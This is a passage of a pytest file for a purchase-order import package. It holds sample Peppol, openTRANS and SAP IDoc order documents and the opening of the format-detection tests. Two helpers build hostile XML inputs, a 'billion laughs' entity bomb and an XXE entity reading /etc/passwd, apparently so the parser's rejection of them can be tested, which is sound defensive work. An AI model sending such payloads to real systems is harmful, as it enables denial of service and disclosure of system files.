"""Tests of the e-mailed purchase order readers (the protocol/orders package); pytest, no Odoo.

Run from the addon directory: ``python3 -m pytest protocol/tests/test_orders.py -q``. The OASIS
UBL example and schemas and the cXML samples come from the shared folder (``PUNCHOUT_SHARED``,
default: the repository's sibling ``shared``). The Peppol, openTRANS and IDoc documents below
follow the published structures (Peppol BIS Order 3 example, openTRANS 2.1 ORDER sample, SAP
ORDERS05 segments); the Peppol one is checked against the UBL 2.1 schema here.
"""

import time
from datetime import datetime, timedelta, timezone
from decimal import Decimal

import pytest
from lxml import etree
from protocol import cxml, orders
from protocol.cxml import Address, Contact, Money, OrderRequest
from protocol.errors import (
    HostileDocument,
    MalformedDocument,
    PayloadTooLarge,
    PunchoutProtocolError,
    UnsupportedRequest,
)
from testdata import CXML_SAMPLES, TESTDATA

UBL_DIR = TESTDATA / "ubl-2.1"
OASIS_ORDER = UBL_DIR / "UBL-Order-2.1-Example.xml"
PLUS_1 = timezone(timedelta(hours=1))
PLUS_2 = timezone(timedelta(hours=2))


# --- documents ---------------------------------------------------------------------------------

PEPPOL_ORDER = b"""<?xml version="1.0" encoding="UTF-8"?>
<Order xmlns="urn:oasis:names:specification:ubl:schema:xsd:Order-2"
       xmlns:cac="urn:oasis:names:specification:ubl:schema:xsd:CommonAggregateComponents-2"
       xmlns:cbc="urn:oasis:names:specification:ubl:schema:xsd:CommonBasicComponents-2">
  <cbc:CustomizationID>urn:fdc:peppol.eu:poacc:trns:order:3</cbc:CustomizationID>
  <cbc:ProfileID>urn:fdc:peppol.eu:poacc:bis:ordering:3</cbc:ProfileID>
  <cbc:ID>4500012347</cbc:ID>
  <cbc:IssueDate>2024-03-12</cbc:IssueDate>
  <cbc:IssueTime>09:41:00+01:00</cbc:IssueTime>
  <cbc:OrderTypeCode>220</cbc:OrderTypeCode>
  <cbc:Note>Bitte Lieferschein mit Bestellnummer beilegen.</cbc:Note>
  <cbc:DocumentCurrencyCode>EUR</cbc:DocumentCurrencyCode>
  <cbc:CustomerReference>Weber, Einkauf 001</cbc:CustomerReference>
  <cbc:AccountingCost>4711-100-2000</cbc:AccountingCost>
  <cac:ValidityPeriod>
    <cbc:EndDate>2024-03-26</cbc:EndDate>
  </cac:ValidityPeriod>
  <cac:QuotationDocumentReference>
    <cbc:ID>S00042</cbc:ID>
  </cac:QuotationDocumentReference>
  <cac:OriginatorDocumentReference>
    <cbc:ID>BANF-0010023456</cbc:ID>
  </cac:OriginatorDocumentReference>
  <cac:Contract>
    <cbc:ID>RV-2023-117</cbc:ID>
  </cac:Contract>
  <cac:BuyerCustomerParty>
    <cac:Party>
      <cbc:EndpointID schemeID="9930">DE811234567</cbc:EndpointID>
      <cac:PartyIdentification>
        <cbc:ID schemeID="0088">4012345000009</cbc:ID>
      </cac:PartyIdentification>
      <cac:PartyName>
        <cbc:Name>Nordwind Maschinenbau GmbH</cbc:Name>
      </cac:PartyName>
      <cac:PostalAddress>
        <cbc:StreetName>Industriestr. 12</cbc:StreetName>
        <cbc:CityName>Mannheim</cbc:CityName>
        <cbc:PostalZone>68169</cbc:PostalZone>
        <cac:Country>
          <cbc:IdentificationCode>DE</cbc:IdentificationCode>
        </cac:Country>
      </cac:PostalAddress>
      <cac:PartyLegalEntity>
        <cbc:RegistrationName>Nordwind Maschinenbau GmbH</cbc:RegistrationName>
        <cbc:CompanyID schemeID="0204">HRB 701234</cbc:CompanyID>
      </cac:PartyLegalEntity>
      <cac:Contact>
        <cbc:Name>Jana Weber</cbc:Name>
        <cbc:Telephone>+49 621 4500-210</cbc:Telephone>
        <cbc:ElectronicMail>j.weber@nordwind.example</cbc:ElectronicMail>
      </cac:Contact>
    </cac:Party>
  </cac:BuyerCustomerParty>
  <cac:SellerSupplierParty>
    <cac:Party>
      <cbc:EndpointID schemeID="9930">DE298765432</cbc:EndpointID>
      <cac:PartyName>
        <cbc:Name>Office Supplies Online GmbH</cbc:Name>
      </cac:PartyName>
      <cac:PostalAddress>
        <cbc:StreetName>Lagerstrasse 5</cbc:StreetName>
        <cbc:CityName>Leipzig</cbc:CityName>
        <cbc:PostalZone>04109</cbc:PostalZone>
        <cac:Country>
          <cbc:IdentificationCode>DE</cbc:IdentificationCode>
        </cac:Country>
      </cac:PostalAddress>
      <cac:PartyLegalEntity>
        <cbc:RegistrationName>Office Supplies Online GmbH</cbc:RegistrationName>
      </cac:PartyLegalEntity>
    </cac:Party>
  </cac:SellerSupplierParty>
  <cac:AccountingCustomerParty>
    <cac:Party>
      <cbc:EndpointID schemeID="9930">DE811234567</cbc:EndpointID>
      <cac:PartyIdentification>
        <cbc:ID schemeID="0088">4012345000016</cbc:ID>
      </cac:PartyIdentification>
      <cac:PartyName>
        <cbc:Name>Nordwind Maschinenbau GmbH Kreditorenbuchhaltung</cbc:Name>
      </cac:PartyName>
      <cac:PostalAddress>
        <cbc:StreetName>Postfach 10 12 20</cbc:StreetName>
        <cbc:CityName>Mannheim</cbc:CityName>
        <cbc:PostalZone>68012</cbc:PostalZone>
        <cac:Country>
          <cbc:IdentificationCode>DE</cbc:IdentificationCode>
        </cac:Country>
      </cac:PostalAddress>
      <cac:PartyLegalEntity>
        <cbc:RegistrationName>Nordwind Maschinenbau GmbH</cbc:RegistrationName>
      </cac:PartyLegalEntity>
      <cac:Contact>
        <cbc:ElectronicMail>rechnungseingang@nordwind.example</cbc:ElectronicMail>
      </cac:Contact>
    </cac:Party>
  </cac:AccountingCustomerParty>
  <cac:Delivery>
    <cac:DeliveryLocation>
      <cbc:ID schemeID="0088">4012345000023</cbc:ID>
      <cbc:Name>Wareneingang Tor 3</cbc:Name>
      <cac:Address>
        <cbc:StreetName>Industriestr. 12</cbc:StreetName>
        <cbc:AdditionalStreetName>Halle B</cbc:AdditionalStreetName>
        <cbc:CityName>Mannheim</cbc:CityName>
        <cbc:PostalZone>68169</cbc:PostalZone>
        <cac:AddressLine>
          <cbc:Line>Anlieferung Mo-Fr 7-15 Uhr</cbc:Line>
        </cac:AddressLine>
        <cac:Country>
          <cbc:IdentificationCode>DE</cbc:IdentificationCode>
        </cac:Country>
      </cac:Address>
    </cac:DeliveryLocation>
    <cac:RequestedDeliveryPeriod>
      <cbc:StartDate>2024-03-25</cbc:StartDate>
      <cbc:EndDate>2024-03-28</cbc:EndDate>
    </cac:RequestedDeliveryPeriod>
    <cac:DeliveryParty>
      <cac:PartyName>
        <cbc:Name>Nordwind Werk 1000</cbc:Name>
      </cac:PartyName>
      <cac:Contact>
        <cbc:Name>Wareneingang</cbc:Name>
        <cbc:Telephone>+49 621 4500-300</cbc:Telephone>
      </cac:Contact>
    </cac:DeliveryParty>
  </cac:Delivery>
  <cac:TaxTotal>
    <cbc:TaxAmount currencyID="EUR">253.14</cbc:TaxAmount>
  </cac:TaxTotal>
  <cac:AnticipatedMonetaryTotal>
    <cbc:LineExtensionAmount currencyID="EUR">1332.30</cbc:LineExtensionAmount>
    <cbc:TaxExclusiveAmount currencyID="EUR">1332.30</cbc:TaxExclusiveAmount>
    <cbc:TaxInclusiveAmount currencyID="EUR">1585.44</cbc:TaxInclusiveAmount>
    <cbc:PayableAmount currencyID="EUR">1585.44</cbc:PayableAmount>
  </cac:AnticipatedMonetaryTotal>
  <cac:OrderLine>
    <cbc:Note>Angebotsposition S00042/57</cbc:Note>
    <cac:LineItem>
      <cbc:ID>10</cbc:ID>
      <cbc:Quantity unitCode="C62">10</cbc:Quantity>
      <cbc:LineExtensionAmount currencyID="EUR">1250.00</cbc:LineExtensionAmount>
      <cbc:PartialDeliveryIndicator>false</cbc:PartialDeliveryIndicator>
      <cac:Delivery>
        <cac:RequestedDeliveryPeriod>
          <cbc:EndDate>2024-03-22</cbc:EndDate>
        </cac:RequestedDeliveryPeriod>
      </cac:Delivery>
      <cac:Price>
        <cbc:PriceAmount currencyID="EUR">125.00</cbc:PriceAmount>
        <cbc:BaseQuantity unitCode="C62">1</cbc:BaseQuantity>
      </cac:Price>
      <cac:Item>
        <cbc:Description>Office chair, black, synchronous mechanism</cbc:Description>
        <cbc:Name>Office chair, black</cbc:Name>
        <cac:BuyersItemIdentification>
          <cbc:ID>MAT-4711</cbc:ID>
        </cac:BuyersItemIdentification>
        <cac:SellersItemIdentification>
          <cbc:ID>FURN-0006</cbc:ID>
        </cac:SellersItemIdentification>
        <cac:ManufacturersItemIdentification>
          <cbc:ID>OC-2000-BK</cbc:ID>
        </cac:ManufacturersItemIdentification>
        <cac:CommodityClassification>
          <cbc:ItemClassificationCode listID="TST">56112102</cbc:ItemClassificationCode>
        </cac:CommodityClassification>
        <cac:ClassifiedTaxCategory>
          <cbc:ID>S</cbc:ID>
          <cbc:Percent>19</cbc:Percent>
          <cac:TaxScheme>
            <cbc:ID>VAT</cbc:ID>
          </cac:TaxScheme>
        </cac:ClassifiedTaxCategory>
      </cac:Item>
    </cac:LineItem>
  </cac:OrderLine>
  <cac:OrderLine>
    <cac:LineItem>
      <cbc:ID>20</cbc:ID>
      <cbc:Quantity unitCode="C62">500</cbc:Quantity>
      <cbc:LineExtensionAmount currencyID="EUR">62.50</cbc:LineExtensionAmount>
      <cac:Price>
        <cbc:PriceAmount currencyID="EUR">12.50</cbc:PriceAmount>
        <cbc:BaseQuantity unitCode="C62">100</cbc:BaseQuantity>
      </cac:Price>
      <cac:Item>
        <cbc:Name>Hexagon screw M8x40</cbc:Name>
        <cac:SellersItemIdentification>
          <cbc:ID>SCR-M8-40</cbc:ID>
        </cac:SellersItemIdentification>
        <cac:ItemSpecificationDocumentReference>
          <cbc:ID>S00042/58</cbc:ID>
        </cac:ItemSpecificationDocumentReference>
      </cac:Item>
    </cac:LineItem>
  </cac:OrderLine>
  <cac:OrderLine>
    <cac:LineItem>
      <cbc:ID>A-30</cbc:ID>
      <cbc:Quantity unitCode="KGM">2</cbc:Quantity>
      <cbc:LineExtensionAmount currencyID="EUR">19.80</cbc:LineExtensionAmount>
      <cac:Item>
        <cbc:Name>Cleaning cloths, cotton</cbc:Name>
        <cac:SellersItemIdentification>
          <cbc:ID>CLN-100</cbc:ID>
        </cac:SellersItemIdentification>
      </cac:Item>
    </cac:LineItem>
  </cac:OrderLine>
</Order>
"""

OPENTRANS_ORDER = b"""<?xml version="1.0" encoding="UTF-8"?>
<ORDER xmlns="http://www.opentrans.org/XMLSchema/2.1"
       xmlns:bmecat="http://www.bmecat.org/bmecat/2005" version="2.1" type="standard">
  <ORDER_HEADER>
    <CONTROL_INFO>
      <GENERATOR_INFO>HKB eProcurement</GENERATOR_INFO>
      <GENERATION_DATE>2024-03-13T08:15:00+01:00</GENERATION_DATE>
    </CONTROL_INFO>
    <SOURCING_INFO>
      <QUOTATION_ID>S00044</QUOTATION_ID>
    </SOURCING_INFO>
    <ORDER_INFO>
      <ORDER_ID>BE-2024-00815</ORDER_ID>
      <ORDER_DATE>2024-03-13T08:14:27+01:00</ORDER_DATE>
      <DELIVERY_DATE type="optional">
        <DELIVERY_START_DATE>2024-04-02</DELIVERY_START_DATE>
        <DELIVERY_END_DATE>2024-04-05</DELIVERY_END_DATE>
      </DELIVERY_DATE>
      <PARTIES>
        <PARTY>
          <bmecat:PARTY_ID type="buyer_specific">HKB-EK</bmecat:PARTY_ID>
          <PARTY_ROLE>buyer</PARTY_ROLE>
          <ADDRESS>
            <bmecat:NAME>Hansa Klinikum Bremen gGmbH</bmecat:NAME>
            <bmecat:DEPARTMENT>Zentraleinkauf</bmecat:DEPARTMENT>
            <CONTACT_DETAILS>
              <bmecat:CONTACT_NAME>Lindner</bmecat:CONTACT_NAME>
              <bmecat:FIRST_NAME>Maren</bmecat:FIRST_NAME>
              <bmecat:PHONE type="office">+49 421 5550-123</bmecat:PHONE>
              <bmecat:EMAILS>
                <bmecat:EMAIL>m.lindner@hkb.example</bmecat:EMAIL>
              </bmecat:EMAILS>
            </CONTACT_DETAILS>
            <bmecat:STREET>Am Schwarzen Meer 134</bmecat:STREET>
            <bmecat:ZIP>28205</bmecat:ZIP>
            <bmecat:CITY>Bremen</bmecat:CITY>
            <bmecat:COUNTRY>Deutschland</bmecat:COUNTRY>
            <bmecat:COUNTRY_CODED>DE</bmecat:COUNTRY_CODED>
            <bmecat:EMAIL>einkauf@hkb.example</bmecat:EMAIL>
          </ADDRESS>
        </PARTY>
        <PARTY>
          <bmecat:PARTY_ID type="buyer_specific">70012</bmecat:PARTY_ID>
          <PARTY_ROLE>supplier</PARTY_ROLE>
          <ADDRESS>
            <bmecat:NAME>Office Supplies Online GmbH</bmecat:NAME>
            <bmecat:STREET>Lagerstrasse 5</bmecat:STREET>
            <bmecat:ZIP>04109</bmecat:ZIP>
            <bmecat:CITY>Leipzig</bmecat:CITY>
            <bmecat:COUNTRY_CODED>DE</bmecat:COUNTRY_CODED>
          </ADDRESS>
        </PARTY>
        <PARTY>
          <bmecat:PARTY_ID type="buyer_specific">HKB-KREDITOREN</bmecat:PARTY_ID>
          <PARTY_ROLE>invoice_recipient</PARTY_ROLE>
          <ADDRESS>
            <bmecat:NAME>Hansa Klinikum Bremen gGmbH</bmecat:NAME>
            <bmecat:NAME2>Kreditorenbuchhaltung</bmecat:NAME2>
            <bmecat:STREET>Postfach 10 44 20</bmecat:STREET>
            <bmecat:ZIP>28044</bmecat:ZIP>
            <bmecat:CITY>Bremen</bmecat:CITY>
            <bmecat:COUNTRY_CODED>DE</bmecat:COUNTRY_CODED>
            <bmecat:EMAIL>rechnungen@hkb.example</bmecat:EMAIL>
          </ADDRESS>
        </PARTY>
        <PARTY>
          <bmecat:PARTY_ID type="iln">4098765000017</bmecat:PARTY_ID>
          <PARTY_ROLE>delivery</PARTY_ROLE>
          <ADDRESS>
            <bmecat:NAME>Hansa Klinikum Bremen gGmbH</bmecat:NAME>
            <bmecat:NAME2>Zentrallager</bmecat:NAME2>
            <bmecat:DEPARTMENT>Warenannahme Rampe 2</bmecat:DEPARTMENT>
            <bmecat:STREET>Gewerbestr. 7</bmecat:STREET>
            <bmecat:ZIP>28279</bmecat:ZIP>
            <bmecat:CITY>Bremen</bmecat:CITY>
            <bmecat:COUNTRY_CODED>DE</bmecat:COUNTRY_CODED>
            <bmecat:PHONE type="office">+49 421 5550-400</bmecat:PHONE>
          </ADDRESS>
        </PARTY>
      </PARTIES>
      <ORDER_PARTIES_REFERENCE>
        <bmecat:BUYER_IDREF type="buyer_specific">HKB-EK</bmecat:BUYER_IDREF>
        <bmecat:SUPPLIER_IDREF type="buyer_specific">70012</bmecat:SUPPLIER_IDREF>
        <INVOICE_RECIPIENT_IDREF type="buyer_specific">HKB-KREDITOREN</INVOICE_RECIPIENT_IDREF>
        <SHIPMENT_PARTIES_REFERENCE>
          <DELIVERY_IDREF type="iln">4098765000017</DELIVERY_IDREF>
        </SHIPMENT_PARTIES_REFERENCE>
      </ORDER_PARTIES_REFERENCE>
      <bmecat:CURRENCY>EUR</bmecat:CURRENCY>
      <PARTIAL_SHIPMENT_ALLOWED>TRUE</PARTIAL_SHIPMENT_ALLOWED>
      <REMARKS type="order">Lieferung nur werktags bis 14 Uhr.</REMARKS>
    </ORDER_INFO>
  </ORDER_HEADER>
  <ORDER_ITEM_LIST>
    <ORDER_ITEM>
      <LINE_ITEM_ID>1</LINE_ITEM_ID>
      <PRODUCT_ID>
        <bmecat:SUPPLIER_PID type="supplier_specific">FURN-0006</bmecat:SUPPLIER_PID>
        <bmecat:BUYER_PID type="buyer_specific">100-4711</bmecat:BUYER_PID>
        <bmecat:DESCRIPTION_SHORT lang="deu">Buerostuhl schwarz</bmecat:DESCRIPTION_SHORT>
        <bmecat:DESCRIPTION_LONG lang="deu"
          >Buerostuhl schwarz, Synchronmechanik</bmecat:DESCRIPTION_LONG>
      </PRODUCT_ID>
      <QUANTITY>4</QUANTITY>
      <bmecat:ORDER_UNIT>C62</bmecat:ORDER_UNIT>
      <PRODUCT_PRICE_FIX>
        <bmecat:PRICE_AMOUNT>125.00</bmecat:PRICE_AMOUNT>
        <bmecat:PRICE_QUANTITY>1</bmecat:PRICE_QUANTITY>
      </PRODUCT_PRICE_FIX>
      <PRICE_LINE_AMOUNT>500.00</PRICE_LINE_AMOUNT>
      <DELIVERY_DATE type="fixed">
        <DELIVERY_START_DATE>2024-03-27</DELIVERY_START_DATE>
        <DELIVERY_END_DATE>2024-03-27</DELIVERY_END_DATE>
      </DELIVERY_DATE>
      <SOURCING_INFO>
        <QUOTATION_ID>S00044/71</QUOTATION_ID>
      </SOURCING_INFO>
    </ORDER_ITEM>
    <ORDER_ITEM>
      <LINE_ITEM_ID>2</LINE_ITEM_ID>
      <PRODUCT_ID>
        <bmecat:SUPPLIER_PID type="supplier_specific">PAP-A4-500</bmecat:SUPPLIER_PID>
        <bmecat:DESCRIPTION_SHORT lang="deu"
          >Kopierpapier A4, 80 g, 500 Blatt</bmecat:DESCRIPTION_SHORT>
      </PRODUCT_ID>
      <QUANTITY>20</QUANTITY>
      <bmecat:ORDER_UNIT>PK</bmecat:ORDER_UNIT>
      <PRODUCT_PRICE_FIX>
        <bmecat:PRICE_AMOUNT>42.50</bmecat:PRICE_AMOUNT>
        <bmecat:PRICE_QUANTITY>10</bmecat:PRICE_QUANTITY>
      </PRODUCT_PRICE_FIX>
      <PRICE_LINE_AMOUNT>85.00</PRICE_LINE_AMOUNT>
      <REMARKS type="order">Angebotsposition S00044/72</REMARKS>
    </ORDER_ITEM>
    <ORDER_ITEM>
      <LINE_ITEM_ID>3</LINE_ITEM_ID>
      <PRODUCT_ID>
        <bmecat:SUPPLIER_PID type="supplier_specific">TON-HP-305A</bmecat:SUPPLIER_PID>
        <bmecat:DESCRIPTION_SHORT lang="deu">Toner schwarz</bmecat:DESCRIPTION_SHORT>
      </PRODUCT_ID>
      <QUANTITY>3</QUANTITY>
      <bmecat:ORDER_UNIT>C62</bmecat:ORDER_UNIT>
      <PRICE_LINE_AMOUNT>179.70</PRICE_LINE_AMOUNT>
    </ORDER_ITEM>
  </ORDER_ITEM_LIST>
  <ORDER_SUMMARY>
    <TOTAL_ITEM_NUM>3</TOTAL_ITEM_NUM>
    <TOTAL_AMOUNT>764.70</TOTAL_AMOUNT>
  </ORDER_SUMMARY>
</ORDER>
"""

IDOC_ORDERS05 = b"""<?xml version="1.0" encoding="UTF-8"?>
<ORDERS05>
  <IDOC BEGIN="1">
    <EDI_DC40 SEGMENT="1">
      <TABNAM>EDI_DC40</TABNAM>
      <MANDT>100</MANDT>
      <DOCNUM>0000000000712345</DOCNUM>
      <DOCREL>757</DOCREL>
      <STATUS>30</STATUS>
      <DIRECT>1</DIRECT>
      <OUTMOD>2</OUTMOD>
      <IDOCTYP>ORDERS05</IDOCTYP>
      <MESTYP>ORDERS</MESTYP>
      <SNDPOR>SAPS4P</SNDPOR>
      <SNDPRT>LS</SNDPRT>
      <SNDPRN>S4PCLNT100</SNDPRN>
      <RCVPOR>XMLMAIL</RCVPOR>
      <RCVPRT>LI</RCVPRT>
      <RCVPRN>0000100234</RCVPRN>
      <CREDAT>20240312</CREDAT>
      <CRETIM>101502</CRETIM>
    </EDI_DC40>
    <E1EDK01 SEGMENT="1">
      <ACTION>000</ACTION>
      <CURCY>EUR</CURCY>
      <WKURS>1.00000</WKURS>
      <ZTERM>ZB30</ZTERM>
      <BSART>NB</BSART>
      <BELNR>4500012348</BELNR>
      <RECIPNT_NO>0000100234</RECIPNT_NO>
    </E1EDK01>
    <E1EDK14 SEGMENT="1"><QUALF>011</QUALF><ORGID>1000</ORGID></E1EDK14>
    <E1EDK14 SEGMENT="1"><QUALF>013</QUALF><ORGID>NB</ORGID></E1EDK14>
    <E1EDK14 SEGMENT="1"><QUALF>014</QUALF><ORGID>1000</ORGID></E1EDK14>
    <E1EDK14 SEGMENT="1"><QUALF>009</QUALF><ORGID>001</ORGID></E1EDK14>
    <E1EDK03 SEGMENT="1"><IDDAT>012</IDDAT><DATUM>20240312</DATUM></E1EDK03>
    <E1EDK03 SEGMENT="1"><IDDAT>011</IDDAT><DATUM>20240312</DATUM></E1EDK03>
    <E1EDKA1 SEGMENT="1">
      <PARVW>AG</PARVW>
      <PARTN>1000</PARTN>
      <NAME1>Nordwind Maschinenbau GmbH</NAME1>
      <STRAS>Industriestr. 12</STRAS>
      <ORT01>Mannheim</ORT01>
      <PSTLZ>68169</PSTLZ>
      <LAND1>DE</LAND1>
      <TELF1>+49 621 4500-210</TELF1>
      <BNAME>Jana Weber</BNAME>
      <SPRAS>D</SPRAS>
    </E1EDKA1>
    <E1EDKA1 SEGMENT="1">
      <PARVW>LF</PARVW>
      <PARTN>0000100234</PARTN>
      <NAME1>Office Supplies Online GmbH</NAME1>
      <STRAS>Lagerstrasse 5</STRAS>
      <ORT01>Leipzig</ORT01>
      <PSTLZ>04109</PSTLZ>
      <LAND1>DE</LAND1>
    </E1EDKA1>
    <E1EDKA1 SEGMENT="1">
      <PARVW>WE</PARVW>
      <PARTN>1000</PARTN>
      <NAME1>Nordwind Maschinenbau GmbH</NAME1>
      <NAME2>Werk 1000 / Wareneingang Tor 3</NAME2>
      <STRAS>Industriestr. 12</STRAS>
      <ORT01>Mannheim</ORT01>
      <PSTLZ>68169</PSTLZ>
      <LAND1>DE</LAND1>
      <ISOAL>DE</ISOAL>
    </E1EDKA1>
    <E1EDK02 SEGMENT="1">
      <QUALF>001</QUALF>
      <BELNR>4500012348</BELNR>
      <DATUM>20240312</DATUM>
    </E1EDK02>
    <E1EDK02 SEGMENT="1"><QUALF>004</QUALF><BELNR>S00045</BELNR><DATUM>20240301</DATUM></E1EDK02>
    <E1EDKT1 SEGMENT="1">
      <TDID>F01</TDID>
      <TSSPRAS>D</TSSPRAS>
      <E1EDKT2 SEGMENT="1">
        <TDLINE>Bitte Bestellnummer auf allen Lieferpapieren</TDLINE>
        <TDFORMAT>*</TDFORMAT>
      </E1EDKT2>
      <E1EDKT2 SEGMENT="1"><TDLINE> angeben.</TDLINE><TDFORMAT>=</TDFORMAT></E1EDKT2>
      <E1EDKT2 SEGMENT="1">
        <TDLINE>Anlieferung Mo-Fr 7-15 Uhr.</TDLINE>
        <TDFORMAT>/</TDFORMAT>
      </E1EDKT2>
    </E1EDKT1>
    <E1EDP01 SEGMENT="1">
      <POSEX>00010</POSEX>
      <ACTION>001</ACTION>
      <MENGE>10.000</MENGE>
      <MENEE>PCE</MENEE>
      <BMNG2>10.000</BMNG2>
      <PMENE>PCE</PMENE>
      <PEINH>1</PEINH>
      <NETWR>1250.00</NETWR>
      <VPREI>125.00</VPREI>
      <MATKL>FURN</MATKL>
      <E1EDP02 SEGMENT="1">
        <QUALF>001</QUALF>
        <BELNR>4500012348</BELNR>
        <ZEILE>00010</ZEILE>
      </E1EDP02>
      <E1EDP02 SEGMENT="1"><QUALF>004</QUALF><BELNR>S00045</BELNR><ZEILE>000061</ZEILE></E1EDP02>
      <E1EDP20 SEGMENT="1"><WMENG>10.000</WMENG><EDATU>20240328</EDATU></E1EDP20>
      <E1EDP19 SEGMENT="1">
        <QUALF>001</QUALF>
        <IDTNR>MAT-4711</IDTNR>
        <KTEXT>Buerostuhl schwarz</KTEXT>
      </E1EDP19>
      <E1EDP19 SEGMENT="1"><QUALF>002</QUALF><IDTNR>FURN-0006</IDTNR></E1EDP19>
      <E1EDPT1 SEGMENT="1">
        <TDID>F01</TDID>
        <E1EDPT2 SEGMENT="1">
          <TDLINE>Farbe schwarz, Armlehnen verstellbar</TDLINE>
          <TDFORMAT>*</TDFORMAT>
        </E1EDPT2>
      </E1EDPT1>
    </E1EDP01>
    <E1EDP01 SEGMENT="1">
      <POSEX>00020</POSEX>
      <ACTION>001</ACTION>
      <MENGE>500.000</MENGE>
      <MENEE>ST</MENEE>
      <PEINH>100</PEINH>
      <NETWR>62.50</NETWR>
      <VPREI>12.50</VPREI>
      <E1EDP20 SEGMENT="1">
        <WMENG>500.000</WMENG>
        <EDATU>20240322</EDATU>
        <EZEIT>120000</EZEIT>
      </E1EDP20>
      <E1EDP19 SEGMENT="1">
        <QUALF>002</QUALF>
        <IDTNR>SCR-M8-40</IDTNR>
        <KTEXT>Sechskantschraube M8x40</KTEXT>
      </E1EDP19>
      <E1EDPT1 SEGMENT="1">
        <TDID>F01</TDID>
        <E1EDPT2 SEGMENT="1"><TDLINE>Ihr Angebot S00045/62</TDLINE><TDFORMAT>*</TDFORMAT></E1EDPT2>
      </E1EDPT1>
    </E1EDP01>
    <E1EDP01 SEGMENT="1">
      <POSEX>00030</POSEX>
      <ACTION>001</ACTION>
      <MENGE>2.000</MENGE>
      <MENEE>KG</MENEE>
      <NETWR>19.80</NETWR>
      <E1EDP19 SEGMENT="1"><QUALF>002</QUALF><IDTNR>CLN-100</IDTNR></E1EDP19>
    </E1EDP01>
    <E1EDS01 SEGMENT="1"><SUMID>001</SUMID><SUMME>3</SUMME></E1EDS01>
    <E1EDS01 SEGMENT="1"><SUMID>002</SUMID><SUMME>1332.30</SUMME><SUNIT>EUR</SUNIT></E1EDS01>
  </IDOC>
</ORDERS05>
"""


def _idoc_change(extra_item=""):
    """The same purchase order as an order change (ORDCHG), with one item deleted."""
    deleted = (
        '<E1EDP01 SEGMENT="1"><POSEX>00040</POSEX><ACTION>003</ACTION><MENGE>1.000</MENGE>'
        "<MENEE>PCE</MENEE></E1EDP01>"
    )
    return (
        IDOC_ORDERS05.replace(b"<MESTYP>ORDERS</MESTYP>", b"<MESTYP>ORDCHG</MESTYP>")
        .replace(b"<E1EDS01", (deleted + extra_item).encode() + b"<E1EDS01", 1)
        .replace(b"<MENGE>500.000</MENGE>", b"<MENGE>400.000</MENGE>")
    )


# Text as pdftotext -layout gives it for SAP's standard PO print (two columns side by side,
# two pages, the header repeated on page 2, the third item's figures on their own line).
PDF_TEXT_EN = """\
Nordwind Maschinenbau GmbH \u00b7 Industriestr. 12 \u00b7 68169 Mannheim \u00b7 Germany

Office Supplies Online Ltd.                              Purchase Order
Unit 4, Riverside Park                                   Purchase order no./Date
Leeds LS11 5QE                                           4500012345 / 03/28/2024
United Kingdom                                           Contact person/Telephone
                                                         Mr. Weber/+49 621 4500-210
                                                         Our fax number
                                                         +49 621 4500 1299
                                                         Your vendor number with us
                                                         100234
                                                         Your quotation
                                                         S00042 dated 03/14/2024

Please deliver to:
Nordwind Maschinenbau GmbH
Plant 1000 / Receiving Gate 3
Industriestr. 12
68169 Mannheim

Currency EUR

Item  Material   Description              Order Qty.  Unit   Price per unit      Net value
------------------------------------------------------------------------------------------
00010 FURN-0006  Office chair, black              10  PC     125.00 / 1 PC        1,250.00
      Delivery date: Day 04/02/2024
      Your quotation item: S00042/57
00020 4711-0815  Hexagon screw M8x40           1,000  PC      12.50 / 100 PC        125.00
      Your material number: SCR-M8-40
      Delivery date: Day 04/02/2024
      Your quotation item: S00042/58

                                                         Page 1 of 2
\f
Nordwind Maschinenbau GmbH                               Purchase Order
                                                         Purchase order no./Date
                                                         4500012345 / 03/28/2024
Item  Material   Description              Order Qty.  Unit   Price per unit      Net value
------------------------------------------------------------------------------------------
00030            Desk lamp LED
                                                   5  PC      39.90 / 1 PC          199.50
      Delivery date: Day 04/12/2024

                                   Total net value excl. tax EUR                  1,574.50

Terms: please state our purchase order number on all invoices and delivery notes.
Phone +49 621 4500 0 \u00b7 Fax +49 621 4500 1299 \u00b7 VAT DE123456789
IBAN DE89 3704 0044 0532 0130 00
                                                         Page 2 of 2
"""

PDF_TEXT_DE = """\
Nordwind Maschinenbau GmbH, Industriestr. 12, 68169 Mannheim

B\u00fcromarkt Online GmbH                   B e s t e l l u n g
Lagerstra\u00dfe 5                           Bestellnummer/Datum  4500012346 / 12.03.2024
04109 Leipzig                            Ansprechpartner/Telefon  Fr. Kr\u00fcger / 0621 4500-210
                                         Unsere Kundennummer bei Ihnen  K-77881
                                         Ihre Lieferantennummer bei uns  100234
                                         Ihr Angebot S00043 vom 01.03.2024
W\u00e4hrung EUR

Pos.  Material  Bezeichnung               Bestellmenge  Einheit  Preis pro Einheit  Nettowert
00010 R-1100    Sechskantschraube M8x40          1.000  ST        12,50 / 100 ST      125,00
      Ihre Materialnummer: SCR-M8-40
      Liefertermin: Tag 28.03.2024
      Angebotsposition S00043/61
00020           Kopierpapier A4, 80 g               20  PAK       42,50 / 10 PAK       85,00
      Liefertermin: Tag 28.03.2024
      Angebotsposition S00043/62

                           Gesamtnettowert ohne Mwst. EUR                         210,00

Bitte geben Sie auf allen Rechnungen unsere Bestellnummer an.
Telefon 0621 4500-0   Telefax 0621 4500-1299   USt-IdNr. DE123456789
Seite 1 von 1
"""


# --- helpers -----------------------------------------------------------------------------------


def _billion_laughs(root="Order"):
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "' + f"&lol{i - 1};" * 10 + '">' for i in range(1, 10)
    ]
    return f"<!DOCTYPE {root} [{''.join(entities)}]><{root}>&lol9;</{root}>".encode()


def _xxe(document, root):
    """``document`` with an external entity declared and used in it."""
    declaration = f'<!DOCTYPE {root} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    body = document.split(b"?>", 1)[1]
    return declaration.encode() + body.replace(b"</", b"&xxe;</", 1)


@pytest.fixture(scope="module")
def ubl_schema():
    return etree.XMLSchema(etree.parse(str(UBL_DIR / "xsd" / "maindoc" / "UBL-Order-2.1.xsd")))


# --- detection ---------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "kind"),
    [
        (lambda: (CXML_SAMPLES / "cxml-php_OrderRequest.xml").read_bytes(), "cxml"),
        (lambda: (CXML_SAMPLES / "cxml-php_PunchOutSetupRequest.xml").read_bytes(), "cxml"),
        (lambda: OASIS_ORDER.read_bytes(), "ubl"),
        (lambda: PEPPOL_ORDER, "ubl"),
        (lambda: OPENTRANS_ORDER, "opentrans"),
        (lambda: IDOC_ORDERS05, "idoc"),
